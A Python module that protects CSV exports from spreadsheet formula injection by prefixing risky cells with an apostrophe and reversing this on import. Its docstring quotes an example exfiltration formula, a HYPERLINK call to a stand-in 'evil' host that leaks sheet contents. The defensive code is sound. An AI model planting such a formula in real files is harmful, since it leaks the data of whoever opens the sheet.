"""CSV cells that a spreadsheet will not run: one helper for every CSV camsvc writes.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel and
LibreOffice (``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet; DDE runs programs). Such a cell is
written with a leading apostrophe, which spreadsheets show as text and hide. :func:`unescape_cell` undoes it
on import, so an exported registry re-imports to the same values.
"""

from __future__ import annotations

import csv
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """*value* as a CSV cell: strings that look like formulas get a leading ``'``; other types unchanged.

    A string already starting with ``'`` followed by a formula start is escaped again, so
    :func:`unescape_cell` gives back exactly what was written.
    """
    if isinstance(value, str) and value and (value.startswith(FORMULA_STARTS) or _escaped(value)):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The text :func:`escape_cell` was given (a leading ``'`` before a formula start is removed)."""
    return value[1:] if _escaped(value) else value


def _escaped(value: str) -> bool:
    return (
        len(value) > 1 and value[0] == "'" and (value[1:].startswith(FORMULA_STARTS) or _escaped(value[1:]))
    )


def safe_row(row: list[Any]) -> list[Any]:
    return [escape_cell(v) for v in row]


def safe_dict(row: dict[str, Any]) -> dict[str, Any]:
    return {k: escape_cell(v) for k, v in row.items()}


class _SafeWriter:
    """``csv.writer`` whose rows are escaped with :func:`escape_cell`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._w = csv.writer(out, **kwargs)

    def writerow(self, row: list[Any]) -> Any:
        return self._w.writerow(safe_row(list(row)))

    def writerows(self, rows: Any) -> None:
        for r in rows:
            self.writerow(r)


def writer(out: Any, **kwargs: Any) -> _SafeWriter:
    """Like ``csv.writer`` (same arguments), safe against formula injection."""
    return _SafeWriter(out, **kwargs)
